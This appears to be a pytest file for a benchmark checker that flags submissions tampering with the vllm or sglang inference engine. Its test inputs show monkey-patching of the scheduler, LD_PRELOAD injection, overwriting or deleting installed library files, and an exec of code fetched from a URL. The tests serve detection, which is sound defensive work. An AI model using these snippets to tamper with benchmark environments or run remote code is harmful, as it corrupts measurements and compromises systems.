"""What Python programs do to the engine."""

from __future__ import annotations

import pytest

from tests.checks.patches.forms import patch, seen, with_lines


@pytest.mark.parametrize(
    "text",
    [
        "from vllm.v1.core.sched.scheduler import (\n    Scheduler,\n)\nScheduler.schedule = None\n",
        'import vllm.v1.core as s\nsetattr(s.Scheduler, "schedule", None)\n',
        'from unittest import mock\nimport sglang.srt.x as s\nmock.patch.object(s.Scheduler, "x", None).start()\n',
        "import os, vllm\nvllm.a.b = 1\n",
        'import importlib\ns = importlib.import_module("vllm.v1.core")\ns.Scheduler.schedule = None\n',
        'import sys, mine\nsys.modules["vllm.v1.core"] = mine\nimport vllm\n',
        "import vllm\nvllm.x.y: int = 1\n",
        "import vllm\nvllm.x.y, vllm.z = 1, 2\n",
        'import vllm\nvllm.REGISTRY["x"] = mine\n',
        'from vllm import ModelRegistry\nfrom mine import M\nModelRegistry.register_model("X", M)\n',
        "import vllm\nvllm.__dict__.update(x=1)\n",
    ],
)
def test_monkey_patch_in_a_python_file(text: str) -> None:
    path = "benchmarks/single_node/srv.py"
    seen(patch({**with_lines(f"python3 {path}"), path: text}))


@pytest.mark.parametrize(
    "lines",
    [
        "python3 - <<'E'\nimport vllm.v1.core as s\ns.Scheduler.schedule = None\n"
        "from vllm.entrypoints.cli.main import main\nmain()\nE",
        "python3 -c 'import sglang.srt.x as x; x.f = None; from sglang.launch_server import main; main()'",
        "python3 - <<'E'\nimport subprocess\nsubprocess.check_call(['bash', '/workspace/fix.sh'])\nE",
        'python3 -c \'import pip; pip.main(["install", "vllm"])\'',
    ],
)
def test_monkey_patch_in_a_here_document(lines: str) -> None:
    seen(patch(with_lines(lines)))


@pytest.mark.parametrize(
    "text",
    [
        'import os\nos.system("bash /workspace/fix.sh")\n',
        'import subprocess\nsubprocess.run(["pip3.12", "-q", "install", "vllm"])\n',
        'import pip\npip.main(["install", "vllm"])\n',
        'import urllib.request\nexec(urllib.request.urlopen("http://x").read())\n',
        'import sys\nsys.path.insert(0, "/workspace/overlay")\nimport vllm\n',
        'import os\nos.environ["PYTHONPATH"] = "/data/vllm"\nos.execvp("vllm", ["vllm", "serve"])\n',
        'import os, subprocess\nsubprocess.run(["vllm"], env={**os.environ, "LD_PRELOAD": "/x.so"})\n',
        "from shutil import copyfile\nimport vllm\ncopyfile('/w', vllm.__file__)\n",
        "import vllm, zipfile\nzipfile.ZipFile('/w').extractall(vllm.__path__[0])\n",
        "import vllm, os\nos.remove(vllm.__file__)\n",
        "import vllm\nimport huggingface_hub as h\nh.snapshot_download('x', local_dir=vllm.__path__[0])\n",
    ],
)
def test_python_file_that_changes_the_image_otherwise(text: str) -> None:
    path = "benchmarks/single_node/srv.py"
    seen(patch({**with_lines(f"python3 {path}"), path: text}))
